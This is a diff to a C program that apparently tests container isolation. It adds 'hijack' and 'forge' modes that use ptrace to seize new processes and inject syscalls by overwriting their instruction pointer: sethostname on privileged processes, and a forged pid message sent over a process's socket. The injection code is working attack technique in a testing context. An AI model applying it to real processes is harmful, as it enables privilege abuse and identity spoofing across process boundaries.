@@ -20,6 +20,11 @@
  *    such pid: opened EXE open=ERRNO-NAME write=ERRNO-NAME ("ok" when it
  *    worked).
  *
+ *  - `hijack` and `forge PID` (a container with CAP_SYS_PTRACE): seize
+ *    and stop each new process; `hijack` injects sethostname when it
+ *    still holds CAP_SYS_ADMIN, `forge` a pid message naming PID on the
+ *    first socket of a command before its execve (see hijack()).
+ *
  * It writes DIR/ready when it runs, appends to DIR/log, and stops when
  * DIR/stop appears. Built static against musl. */
 #define _GNU_SOURCE
@@ -30,6 +35,9 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ptrace.h>
+#include <sys/socket.h>
+#include <sys/syscall.h>
+#include <sys/user.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
@@ -133,6 +141,128 @@ static void probe(FILE *log, int pid)
     fflush(log);
 }
 
+/* CapEff of pid, from /proc/PID/status (0 when unreadable). */
+static unsigned long long cap_eff(int pid)
+{
+    char path[64], st[4096];
+    snprintf(path, sizeof(path), "/proc/%d/status", pid);
+    ssize_t n = read_all(path, st, sizeof(st) - 1);
+    if (n <= 0)
+        return 0;
+    st[n] = '\0';
+    char *c = strstr(st, "CapEff:");
+    return c ? strtoull(c + 7, NULL, 16) : 0;
+}
+
+/* The Seccomp: mode of pid (-1 when unreadable). */
+static int seccomp_mode(int pid)
+{
+    char path[64], st[4096];
+    snprintf(path, sizeof(path), "/proc/%d/status", pid);
+    ssize_t n = read_all(path, st, sizeof(st) - 1);
+    if (n <= 0)
+        return -1;
+    st[n] = '\0';
+    char *c = strstr(st, "Seccomp:");
+    return c ? atoi(c + 8) : -1;
+}
+
+/* `hijack` mode: seize and stop each new process; when it still holds
+ * CAP_SYS_ADMIN (which the container lacks), make it run
+ * sethostname("hijacked") (a syscall injected at its instruction
+ * pointer), then put it back as it was. One line per pid:
+ *   hijack PID seized=0|1 capeff=HEX injected=RESULT exe=EXE seccomp=MODE
+ * (EXE as seen while it was stopped: a memfd before its execve) */
+static int forge_pid; /* `forge PID` mode */
+
+/* The first socket among pid's fds above stdio (-1: none). */
+static int socket_fd(int pid)
+{
+    for (int fd = 3; fd < 64; fd++) {
+        char path[64], l[64];
+        snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, fd);
+        ssize_t n = readlink(path, l, sizeof(l) - 1);
+        if (n > 7 && strncmp(l, "socket:", 7) == 0)
+            return fd;
+    }
+    return -1;
+}
+
+static void hijack(FILE *log, int pid)
+{
+    long injected = 1; /* not tried */
+    char exe[256] = "?";
+    int seized = ptrace(PTRACE_SEIZE, pid, 0, 0) == 0;
+    unsigned long long caps = 0;
+    int mode = -1;
+    if (seized && ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0) {
+        int st;
+        if (waitpid(pid, &st, __WALL) == pid && WIFSTOPPED(st)) {
+            caps = cap_eff(pid);
+            mode = seccomp_mode(pid);
+            char path[64];
+            snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+            ssize_t n = readlink(path, exe, sizeof(exe) - 1);
+            exe[n > 0 ? n : 0] = '\0';
+            for (char *c = exe; *c; c++)
+                if (*c == ' ')
+                    *c = '_';
+            struct user_regs_struct regs, r;
+            int sock = forge_pid && strncmp(exe, "/memfd:", 7) == 0 ? socket_fd(pid) : -1;
+            if (sock >= 0 && ptrace(PTRACE_GETREGS, pid, 0, &regs) == 0) {
+                /* sendto(sock, {6 (the pid message), forge_pid}, 8, MSG_NOSIGNAL) */
+                r = regs;
+                unsigned long text = regs.rip, data = (regs.rsp - 512) & ~15UL;
+                long old_text = ptrace(PTRACE_PEEKTEXT, pid, text, 0);
+                long old_data = ptrace(PTRACE_PEEKDATA, pid, data, 0);
+                long msg = 6L | ((long)forge_pid << 32);
+                ptrace(PTRACE_POKEDATA, pid, data, msg);
+                ptrace(PTRACE_POKETEXT, pid, text, (old_text & ~0xffffL) | 0x050f);
+                r.rax = SYS_sendto;
+                r.orig_rax = -1;
+                r.rdi = (unsigned long)sock;
+                r.rsi = data;
+                r.rdx = 8;
+                r.r10 = MSG_NOSIGNAL;
+                r.r8 = 0;
+                r.r9 = 0;
+                ptrace(PTRACE_SETREGS, pid, 0, &r);
+                if (ptrace(PTRACE_SINGLESTEP, pid, 0, 0) == 0 && waitpid(pid, &st, __WALL) == pid &&
+                    WIFSTOPPED(st) && ptrace(PTRACE_GETREGS, pid, 0, &r) == 0)
+                    injected = (long)r.rax;
+                ptrace(PTRACE_POKETEXT, pid, text, old_text);
+                ptrace(PTRACE_POKEDATA, pid, data, old_data);
+                ptrace(PTRACE_SETREGS, pid, 0, &regs);
+            } else if (!forge_pid && (caps >> 21) & 1 &&
+                       ptrace(PTRACE_GETREGS, pid, 0, &regs) == 0) {
+                r = regs;
+                unsigned long text = regs.rip, data = (regs.rsp - 512) & ~15UL;
+                long old_text = ptrace(PTRACE_PEEKTEXT, pid, text, 0);
+                long old_data = ptrace(PTRACE_PEEKDATA, pid, data, 0);
+                long name;
+                memcpy(&name, "hijacked", 8);
+                ptrace(PTRACE_POKEDATA, pid, data, name);
+                ptrace(PTRACE_POKETEXT, pid, text, (old_text & ~0xffffL) | 0x050f); /* syscall */
+                r.rax = SYS_sethostname;
+                r.orig_rax = -1;
+                r.rdi = data;
+                r.rsi = 8;
+                ptrace(PTRACE_SETREGS, pid, 0, &r);
+                if (ptrace(PTRACE_SINGLESTEP, pid, 0, 0) == 0 && waitpid(pid, &st, __WALL) == pid &&
+                    WIFSTOPPED(st) && ptrace(PTRACE_GETREGS, pid, 0, &r) == 0)
+                    injected = (long)r.rax;
+                ptrace(PTRACE_POKETEXT, pid, text, old_text);
+                ptrace(PTRACE_POKEDATA, pid, data, old_data);
+                ptrace(PTRACE_SETREGS, pid, 0, &regs);
+            }
+            ptrace(PTRACE_DETACH, pid, 0, 0);
+        }
+    }
+    fprintf(log, "hijack %d seized=%d capeff=%llx injected=%ld exe=%s seccomp=%d\n", pid, seized,
+            caps, injected, exe, mode);
+    fflush(log);
+}
+
 static const char *errname(int ok, int e)
 {
     return ok             ? "ok"
@@ -194,9 +324,16 @@ static void attack(FILE *log, int pid)
 int main(int argc, char **argv)
 {
     int write_mode = argc == 3 && strcmp(argv[2], "write") == 0;
-    if (!write_mode && !(argc == 4 && strcmp(argv[2], "read") == 0))
+    int hijack_mode = argc == 3 && strcmp(argv[2], "hijack") == 0;
+    if (argc == 4 && strcmp(argv[2], "forge") == 0) {
+        hijack_mode = 1;
+        forge_pid = atoi(argv[3]);
+    }
+    if (hijack_mode)
+        write_mode = 0;
+    else if (!write_mode && !(argc == 4 && strcmp(argv[2], "read") == 0))
         return 2;
-    if (!write_mode) {
+    if (!write_mode && !hijack_mode) {
         secret_len = strlen(argv[3]);
         if (secret_len == 0 || secret_len >= sizeof(secret))
             return 2;
@@ -222,7 +359,9 @@ int main(int argc, char **argv)
             int now = atoi(v);
             for (int p = last + 1; p <= now; p++)
                 if (p != getpid()) {
-                    if (write_mode)
+                    if (hijack_mode)
+                        hijack(log, p);
+                    else if (write_mode)
                         attack(log, p);
                     else
                         probe(log, p);
